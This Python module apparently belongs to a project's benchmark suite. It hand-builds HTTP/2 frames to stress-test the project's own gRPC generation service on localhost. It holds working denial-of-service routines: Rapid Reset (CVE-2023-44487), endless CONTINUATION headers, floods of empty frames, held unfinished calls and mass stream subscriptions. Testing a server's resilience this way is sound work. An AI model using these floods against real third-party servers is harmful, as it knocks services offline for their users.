"""Attacks over gRPC, most of them in frames of HTTP/2 (RFC 9113) that no client library would send.

Each is called again and again, in a thread of its own, until it is killed.
"""

import asyncio
import contextlib
import socket
import struct
import time
from collections.abc import Iterator

import grpc

from benchmarks.attack.over_http import HOLD_SECONDS, Address, Attack
from hidiffusion_api.v1 import generation_service_pb2 as rpc
from hidiffusion_api.v1 import generation_service_pb2_grpc

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

#: Types and flags of frames, RFC 9113, section 6.
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x9
_END_HEADERS = 0x4

#: Attackers stand in lanes of their own where they come from an address of their own.
_FROM = ("127.0.0.2", 0)

_CANCEL = struct.pack(">I", 0x8)
_CREATE = "/hidiffusion_api.v1.GenerationService/CreateGeneration"


def _frame(kind: int, stream: int, payload: bytes = b"", flags: int = 0) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _field(name: str, value: str) -> bytes:
    """A header as a literal without indexing, RFC 7541, section 6.2.2; up to 126 bytes each."""
    parts = (bytes([len(part)]) + part.encode() for part in (name, value))
    return b"\x00" + b"".join(parts)


_CALL = b"".join(
    _field(name, value)
    for name, value in (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", _CREATE),
        (":authority", "localhost"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    )
)
_BEGIN = _PREFACE + _frame(_SETTINGS, 0)


@contextlib.contextmanager
def _connected(address: Address) -> Iterator[socket.socket]:
    end = socket.create_connection(address, 10, source_address=_FROM)
    with end, contextlib.suppress(OSError):
        yield end


def held(begin: bytes) -> Attack:
    """A connection that sends this and nothing more, held until the server ends it."""

    def attack(address: Address, _: str) -> None:
        with _connected(address) as end:
            end.sendall(begin)
            end.settimeout(3600)
            while end.recv(65536):
                pass

    return attack


def endless_headers(address: Address, _: str) -> None:
    """Headers that go on in one CONTINUATION after the other and never end."""
    more = _frame(_CONTINUATION, 1, _field("x-more", "y" * 100) * 100)
    with _connected(address) as end:
        end.sendall(_BEGIN + _frame(_HEADERS, 1, _CALL))
        for _round in range(10_000):
            end.sendall(more)


def reset_streams(address: Address, _: str) -> None:
    """Calls that are begun and reset at once, by hundreds (CVE-2023-44487)."""
    with _connected(address) as end:
        end.sendall(_BEGIN)
        for first in range(1, 200_000, 200):
            numbers = range(first, first + 200, 2)
            end.sendall(
                b"".join(
                    _frame(_HEADERS, each, _CALL, _END_HEADERS) + _frame(_RST_STREAM, each, _CANCEL)
                    for each in numbers
                )
            )


def small_frames(address: Address, _: str) -> None:
    """Frames that ask for nothing, as fast as they are taken."""
    many = _frame(_SETTINGS, 0) * 2_000 + _frame(_PING, 0, bytes(8), 0x1) * 2_000
    with _connected(address) as end:
        end.sendall(_BEGIN)
        for _round in range(10_000):
            end.sendall(many)


def unfinished_calls(count: int) -> Attack:
    """So many calls on one connection whose message is announced and never comes."""
    begun = b"".join(
        _frame(_HEADERS, each, _CALL, _END_HEADERS) + _frame(_DATA, each, b"\x00\x00\x00\x10\x00{")
        for each in range(1, 2 * count, 2)
    )
    return held(_BEGIN + begun)


def watchers(count: int) -> Attack:
    """So many streams of one generation's events, opened at once, held a moment, and dropped."""

    async def open_all(address: Address, generation_id: str) -> None:
        target, request = f"{address[0]}:{address[1]}", rpc.WatchGenerationRequest(id=generation_id)
        options = [("grpc.use_local_subchannel_pool", 1)]
        async with contextlib.AsyncExitStack() as stack:
            calls = []
            for _ in range(max(1, count // 500)):
                channel = grpc.aio.insecure_channel(target, options=options)
                await stack.enter_async_context(channel)
                stub = generation_service_pb2_grpc.GenerationServiceStub(channel)
                calls += [stub.WatchGeneration(request) for _ in range(min(count, 500))]
            await asyncio.gather(*(call.read() for call in calls), return_exceptions=True)
            await asyncio.sleep(HOLD_SECONDS)
            for call in calls:
                call.cancel()

    def attack(address: Address, generation_id: str) -> None:
        asyncio.run(open_all(address, generation_id))

    return attack


def opened(address: Address, _: str) -> None:
    """A connection that says nothing, not even that it speaks HTTP/2, and goes after a moment."""
    with _connected(address):
        time.sleep(HOLD_SECONDS)


#: How many at a time, by name.
ATTACKS: dict[str, tuple[int, Attack]] = {
    "gRPC: 1,000 silent connections": (1000, opened),
    "gRPC: 200 unfinished headers": (200, held(_BEGIN + _frame(_HEADERS, 1, _CALL))),
    "gRPC: endless headers": (8, endless_headers),
    "gRPC: 20,000 unfinished calls": (200, unfinished_calls(100)),
    "gRPC: streams begun and reset": (8, reset_streams),
    "gRPC: frames that ask for nothing": (8, small_frames),
    "gRPC: 1,000 event streams": (1, watchers(1000)),
    "gRPC: 2,500 event streams": (1, watchers(2500)),
}
